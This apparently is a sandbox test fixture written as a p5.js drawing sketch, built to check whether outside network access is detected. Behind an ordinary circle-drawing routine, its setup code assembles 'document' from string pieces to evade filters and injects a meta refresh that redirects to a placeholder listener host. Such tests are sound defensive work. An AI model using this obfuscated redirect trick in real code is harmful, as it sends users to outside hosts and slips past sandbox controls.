// tries: to go elsewhere by a header in the markup
// expect: external_access
const hidden = (...parts) => parts.join("");
async function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
  const page = window[hidden("docu", "ment")];

  const meta = page.createElement("meta");
  meta.httpEquiv = "refresh";
  meta.content = "0;url=http://@LISTENER@/refresh";
  page.head.append(meta);
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
}
